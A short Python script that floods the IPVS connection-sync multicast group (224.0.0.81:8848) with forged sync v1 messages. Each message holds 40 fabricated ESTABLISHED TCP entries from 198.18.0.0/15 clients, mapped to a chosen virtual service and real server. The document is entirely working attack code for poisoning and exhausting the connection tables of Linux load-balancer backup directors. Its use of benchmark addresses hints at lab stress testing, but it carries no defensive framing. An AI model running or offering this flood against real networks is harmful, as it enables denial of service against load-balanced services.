#!/usr/bin/env python3
"""syncflood.py - valid-looking IPVS sync v1 messages, as fast as they go

    syncflood.py IFADDR VIP VPORT DADDR DPORT SECONDS

From the local address IFADDR to 224.0.0.81:8848 (TTL 1), messages of 40
IPv4 TCP entries each, ESTABLISHED, masq, 900 s, every one a new client
(198.18.0.0/15, ports 1024 up) of VIP:VPORT on the real server DADDR:DPORT.
Prints how many entries it sent.
"""
import socket
import struct
import sys
import time

ifaddr, vip, vport, daddr, dport, secs = sys.argv[1:7]
vport, dport, secs = int(vport), int(dport), float(secs)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
s.bind((ifaddr, 0))
v, d = socket.inet_aton(vip), socket.inet_aton(daddr)
per = 40
size = 8 + per * 36
sent = 0
end = time.monotonic() + secs
n = 0
while time.monotonic() < end:
    body = []
    for _ in range(per):
        c = struct.pack("!I", (198 << 24 | 18 << 16) + n // 60000)
        cport = 1024 + n % 60000
        # type 0 (IPv4), TCP, version 0 and size 36; flags masq; ESTABLISHED (1);
        # ports; fwmark 0; timeout 900; client, virtual, real server
        body.append(struct.pack("!BBHIHHHHII", 0, 6, 36, 0, 1, cport, vport, dport, 0, 900)
                    + c + v + d)
        n += 1
    msg = struct.pack("!BBHBBH", 0, 0, size, per, 1, 0) + b"".join(body)
    try:
        s.sendto(msg, ("224.0.0.81", 8848))
        sent += per
    except OSError:
        time.sleep(0.001)
print(sent)
